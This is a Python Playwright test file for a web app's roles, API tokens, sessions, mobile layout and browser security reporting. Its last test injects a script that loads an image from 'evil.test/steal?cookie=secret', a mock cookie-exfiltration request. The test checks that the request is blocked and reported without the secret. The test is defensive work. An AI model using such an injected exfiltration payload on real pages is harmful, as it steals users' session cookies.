"""Roles, sessions and tokens in a real browser, and what it reports of pages that are tampered with."""

import re

import httpx2
from playwright.async_api import Browser, Page, expect
from tests.town import Town, eventually

from muster.access.roles import Role
from muster.platform.actor import System


async def _sign_in(page: Page, email: str, path: str = "/") -> None:
    await page.goto(f"/sign-in/google?login_hint={email}&next={path}")


async def test_a_role_that_ada_gives_is_there_at_cys_next_click(town: Town, page: Page, browser: Browser):
    theirs = await browser.new_context(base_url=town.base_url)
    cy = await theirs.new_page()
    await _sign_in(cy, "cy@acme.test")
    places = cy.get_by_role("navigation", name="Main")
    await expect(places.get_by_role("link", name="Checklist")).to_have_count(0)

    await _sign_in(page, "ada@acme.test", "/admin/roles")
    await page.get_by_label("Address").first.fill("cy@acme.test")
    await page.get_by_label("Role", exact=True).select_option("auditor")
    await page.get_by_role("button", name="Give").click()
    await expect(page.get_by_role("row", name=re.compile("^Cy .* Auditor"))).to_be_visible()
    await cy.get_by_role("link", name="People", exact=True).first.click()
    await expect(places.get_by_role("link", name="Checklist")).to_be_visible()

    await page.get_by_role("button", name=re.compile("Take away auditor")).click()
    await cy.get_by_role("link", name="Groups").first.click()
    await expect(places.get_by_role("link", name="Checklist")).to_have_count(0)
    await theirs.close()


async def test_a_token_is_made_used_and_revoked_and_another_session_ended(
    town: Town, page: Page, browser: Browser
):
    elsewhere = await browser.new_context(base_url=town.base_url)
    other = await elsewhere.new_page()
    await _sign_in(other, "cy@acme.test")
    await _sign_in(page, "cy@acme.test", "/account")

    await page.get_by_label("What is it for?").fill("Nightly export")
    await page.get_by_role("button", name="Make").click()
    told = await page.locator("#token").inner_text()
    async with httpx2.AsyncClient(base_url=town.base_url) as script:
        bearer = {"authorization": f"Bearer {told}"}
        assert (await script.get("/api/v1/people", headers=bearer)).status_code == 200
        await page.get_by_role("button", name="Revoke Nightly export").click()
        await expect(page.get_by_text("Revoked")).to_be_visible()
        assert (await script.get("/api/v1/people", headers=bearer)).status_code == 401

    await page.get_by_role("button", name=re.compile("^End .*Chrome")).click()
    await expect(page.get_by_text("this one")).to_be_visible()
    await other.goto("/people")
    await expect(other.get_by_role("link", name="Continue with Google")).to_be_visible()
    await elsewhere.close()


async def test_on_a_phone_every_column_is_there_and_nothing_twice(town: Town, page: Page):
    await town.portal.grants.grant("ben@acme.test", Role.SALES, by=System("tester"))
    await page.set_viewport_size({"width": 390, "height": 800})
    await _sign_in(page, "ada@acme.test", "/admin/roles")

    row = page.get_by_role("row", name=re.compile("^ben@acme.test"))
    await expect(row).to_contain_text("by tester")
    assert (await row.get_by_role("rowheader").inner_text()).count("ben@acme.test") == 1
    await page.get_by_label("Address").first.fill("cy@acme.test")
    await page.get_by_role("button", name="Give").click()
    await expect(page.get_by_role("alert")).to_contain_text("The directory knows nobody")
    await page.get_by_label("Yes, this is meant").check()
    await page.get_by_role("button", name="Give").click()
    await expect(page.get_by_role("status").first).to_contain_text("cy@acme.test has the role Sales")

    await page.goto("/admin/audit")
    await expect(page.get_by_role("row").filter(has_text="signed in").first).to_contain_text("127.0.0.1")
    await expect(page.get_by_text("Until", exact=True)).to_be_visible()
    await page.goto("/admin/settings")
    await expect(page.get_by_text("address to listen on")).to_be_visible()
    for path in ("/admin/roles", "/admin/audit", "/admin/settings", "/admin/reports", "/account"):
        await page.goto(path)
        assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path


async def test_what_a_browser_refuses_of_a_page_is_reported(town: Town, browser: Browser):
    """Somebody has got a script into a page: it does not run, and we hear of it."""
    context = await browser.new_context(base_url=town.base_url)
    page = await context.new_page()
    await _sign_in(page, "cy@acme.test", "/people")

    await page.evaluate(
        """() => {
            const image = document.createElement("img");
            image.src = "https://evil.test/steal?cookie=secret";
            document.body.append(image);
        }"""
    )

    blocked = await eventually(
        lambda: town.value("SELECT string_agg(blocked || ' ' || page, ',') FROM browser_reports")
    )
    assert "https://evil.test /people" in blocked
    assert "secret" not in blocked
    await context.close()
